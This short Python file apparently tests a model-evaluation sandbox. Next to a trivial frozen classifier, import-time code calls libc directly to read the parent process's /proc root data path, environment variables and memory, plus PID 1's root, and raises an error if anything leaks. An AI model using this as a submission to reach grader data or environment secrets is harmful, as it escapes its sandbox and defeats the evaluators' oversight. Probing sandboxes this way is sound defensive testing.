"""Reaches the data through the parent's /proc entries (root, environ, mem) via libc."""
import torch
from torch import nn


class Net(nn.Module):
    """A frozen linear classifier: needs no weights file."""

    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(48 * 48, 7).requires_grad_(False)

    def forward(self, x):
        return self.fc(x.flatten(1))


import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
ppid = os.getppid()
for path in (f"/proc/{ppid}/root__DATA__", f"/proc/{ppid}/environ", f"/proc/{ppid}/mem", f"/proc/1/root__DATA__"):
    fd = libc.open(path.encode(), 0)
    buf = ctypes.create_string_buffer(4096)
    got = libc.read(fd, buf, 4096) if fd >= 0 else -1
    if got > 0:
        raise RuntimeError(f"LEAKED {got} bytes from {path}")
